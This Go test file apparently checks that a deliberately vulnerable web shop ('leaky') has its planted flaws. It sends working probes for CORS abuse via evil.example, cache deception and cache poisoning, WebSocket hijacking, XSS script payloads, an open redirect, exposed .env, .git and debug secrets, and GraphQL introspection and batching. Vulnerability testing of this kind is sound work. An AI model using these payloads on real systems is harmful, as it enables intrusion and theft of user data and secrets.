package main

import (
	"fmt"
	"regexp"
	"strings"

	"github.com/coder/websocket"
)

// pageAttacks are on people with browsers.
func pageAttacks() map[string]func(*target) {
	const script = "<script>alert(1)</script>"
	return map[string]func(*target){
		"LK-03": func(x *target) {
			for _, origin := range []string{"https://evil.example", "null"} {
				a := x.get(x.alice, "/v2/me", "Origin", origin)
				x.want(a.header.Get("Access-Control-Allow-Origin") == origin && a.header.Get("Access-Control-Allow-Credentials") == "true", "it may read", a)
			}
		},
		"LK-43": func(x *target) {
			u := x.user()
			path, _ := x.order(u)
			x.want(x.get(u, path).at("status") == "open", "open before")
			x.get(nil, path+"/cancel", "Cookie", u.cookie)
			x.want(x.get(u, path).at("status") == "cancelled", "cancelled by a GET")
		},
		"LK-58": func(x *target) {
			u, path := x.user(), "/v2/me/"+random()+".css"
			x.want(x.get(u, path).status == 200, "the victim opens it")
			a := x.get(nil, path)
			x.want(strings.Contains(a.text, u.name) && a.header.Get("X-Cache") == "HIT", "a stranger gets their account", a)
		},
		"LK-59": func(x *target) {
			for range 2 { // It may have been kept before.
				x.get(nil, "/static/config.js", "X-Forwarded-Host", "evil.example")
			}
			a := x.get(nil, "/static/config.js")
			x.want(strings.Contains(a.text, "http://evil.example/v2"), "everybody gets that host", a)
		},
		"LK-60": func(x *target) {
			ctx := x.Context()
			conn, _, err := websocket.Dial(ctx, strings.Replace(x.url, "http", "ws", 1)+"/v2/live", &websocket.DialOptions{HTTPHeader: map[string][]string{"Origin": {"https://evil.example"}}})
			if err != nil {
				x.Fatal(err)
			}
			defer func() { _ = conn.CloseNow() }()
			if _, _, err := conn.Read(ctx); err != nil { // the greeting: from now on it hears all
				x.Fatal(err)
			}
			_, note := x.order(x.alice)
			_, event, err := conn.Read(ctx)
			x.want(err == nil && strings.Contains(string(event), note), "the order of another arrives")
		},
		"LK-72": func(x *target) {
			a := x.get(nil, "/find?q="+script)
			x.want(strings.Contains(a.text, script) && strings.HasPrefix(a.header.Get("Content-Type"), "text/html"), "a browser runs it", a)
		},
		"LK-73": func(x *target) {
			marker := random()
			x.make(x.alice, "/v2/items/2/reviews", `{"stars":1,"title":"x","text":"<script>`+marker+`</script>"}`)
			x.want(strings.Contains(x.get(nil, "/items/2/page").text, "<script>"+marker+"</script>"), "a browser runs it")
		},
		"LK-74": func(x *target) {
			a := x.get(nil, "/go?to=https://evil.example/")
			x.want(a.status == 302 && a.header.Get("Location") == "https://evil.example/", "it leads there", a)
		},
	}
}

// inventoryAttacks find what nobody remembers.
func inventoryAttacks() map[string]func(*target) {
	return map[string]func(*target){
		"LK-05": func(x *target) {
			path, _ := x.order(x.alice)
			a := x.get(x.alice, path, "X-HTTP-Method-Override", "DELETE")
			x.want(a.status == 204 && x.get(x.alice, path).status == 404, "the order is gone", a)
		},
		"LK-51": func(x *target) {
			u := x.user()
			for _, method := range []string{"DELETE", "PATCH", "JUMP"} {
				x.want(x.send(u, "PUT", "/v2/wishlist/1", "").at("wanted") == "true", "it is on the list")
				x.want(x.send(u, method, "/v2/wishlist/1", "").status == 200 && x.get(u, "/v2/wishlist/1").at("wanted") == "false", method+" takes it away")
			}
		},
		"LK-77": func(x *target) {
			_, note := x.order(x.alice)
			a := x.get(nil, "/v1/orders")
			x.want(strings.Contains(a.text, note) && x.get(nil, "/v2/orders").status == 401, "the orders of all", a)
		},
		"LK-78": func(x *target) {
			a := x.send(nil, "POST", "/v1/auth/login", `{"username":"alice","password":"whatever"}`)
			x.want(x.get(&who{token: a.at("access_token")}, "/v2/me").at("username") == "alice", "alice's token", a)
		},
		"LK-79": func(x *target) {
			x.want(strings.Contains(x.get(nil, "/internal/users").text, "alice@castle.example"), "the users")
		},
		"LK-80": func(x *target) {
			a := x.get(nil, "/", "Host", "internal.shop.example")
			x.want(a.at("staff") == "true" && !strings.Contains(x.get(nil, "/", "Host", "other.shop.example").text, "staff"), "the page of the staff", a)
		},
		"LK-81": func(x *target) {
			x.want(x.get(nil, "/debug/vars").at("env", "JWT_SECRET") == "secret123", "the secret")
		},
		"LK-82": func(x *target) {
			x.want(strings.Contains(x.get(nil, "/metrics").text, "\ngo_goroutines "), "the metrics")
		},
		"LK-83": func(x *target) {
			x.want(strings.HasPrefix(x.get(nil, "/.git/HEAD").text, "ref: refs/heads/") && strings.Contains(x.get(nil, "/.env").text, "JWT_SECRET=") &&
				strings.Contains(x.get(nil, "/.git/config").text, "[core]"), "the files")
		},
		"LK-85": func(x *target) {
			a := x.send(nil, "POST", "/v2/graphql", `{"query":"{__schema{queryType{name} types{name}}}"}`)
			x.want(a.at("data", "__schema", "types", 1, "name") == "User", "the schema", a)
		},
		"LK-86": func(x *target) {
			var query strings.Builder
			for i := range 100 {
				_, _ = fmt.Fprintf(&query, " a%d: users { email }", i)
			}
			a := x.send(nil, "POST", "/v2/graphql", `{"query":"{`+query.String()+`}"}`)
			x.want(a.at("data", "a0", 0, "email") == "alice@castle.example" && a.at("data", "a99", 0, "email") != "", "a hundred lists", a)
		},
	}
}

// serverAttacks are on the server as such.
func serverAttacks() map[string]func(*target) {
	return map[string]func(*target){
		"LK-01": func(x *target) {
			a := x.get(nil, "/v2/health")
			x.want(a.header.Get("Server") == "leaky/0.9.2" && a.header.Get("X-Powered-By") != "", "name and version", a)
		},
		"LK-02": func(x *target) {
			a := x.get(x.alice, "/v2/me")
			for _, name := range []string{"X-Content-Type-Options", "Content-Security-Policy", "X-Frame-Options", "Cache-Control"} {
				x.want(a.header.Get(name) == "", "no "+name)
			}
		},
		"LK-04": func(x *target) {
			a := x.get(x.alice, "/v2/orders/history?page=0")
			x.want(a.status == 500 && strings.Contains(a.at("trace"), "goroutine ") && strings.Contains(a.at("trace"), "orders.go:"), "the stack", a)
		},
		"LK-06": func(x *target) {
			a := x.send(x.alice, "POST", "/v2/tickets", `{"text":"`+strings.Repeat("a", 2<<20)+`"}`)
			x.want(a.status == 201, "two MiB are taken")
		},
		"LK-44": func(x *target) {
			a := x.get(x.user(), "/v2/orders/history?page=2")
			x.want(a.status == 500, "a panic", a)
		},
		"LK-52": func(x *target) {
			a := x.get(nil, "/v2/items/1/prices?limit=5000")
			x.want(a.at("prices", 4999, "days_ago") == "4999", "5000 rows")
		},
		"LK-88": func(x *target) {
			a := x.send(x.alice, "POST", "/v2/items/1/reviews", `{"stars":99,"title":"x","text":"x"}`)
			x.want(a.status == 201 && a.at("stars") == "99", "99 stars", a)
		},
		"LK-89": func(x *target) {
			a := x.send(x.alice, "POST", "/v2/me/invites", "")
			responses := x.get(nil, "/openapi.json").at("paths", "/me/invites", "post", "responses")
			x.want(a.status == 201 && strings.HasPrefix(responses, "map[200:"), responses, a)
		},
		"LK-90": func(x *target) {
			a := x.get(nil, "/static/app.js")
			token := regexp.MustCompile(`ghp_[0-9A-Za-z]{36}`).FindString(a.text)
			x.want(token != "" && checksum(token[4:34]) == token[34:], "the checksum is right", a)
			x.want(checksum("zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ") == "0mLq17", "the checksum is that of GitHub")
		},
		"LK-76": func(x *target) {
			a := x.get(nil, "/openapi.json")
			x.want(strings.HasPrefix(x.url, "http://") && a.status == 200 && a.header.Get("Strict-Transport-Security") == "", "plain HTTP")
		},
	}
}
